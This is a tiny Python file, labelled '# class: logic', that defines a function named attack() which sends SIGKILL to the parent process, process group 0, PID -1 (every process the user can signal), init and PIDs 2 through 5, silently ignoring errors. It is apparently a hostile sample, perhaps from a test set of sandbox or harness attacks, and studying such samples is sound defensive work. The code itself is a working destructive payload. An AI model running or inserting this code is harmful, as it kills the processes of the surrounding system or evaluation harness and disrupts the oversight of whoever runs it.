# class: logic
import os
import signal


def attack():
    for pid in (os.getppid(), 0, -1, 1, 2, 3, 4, 5):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    return 0
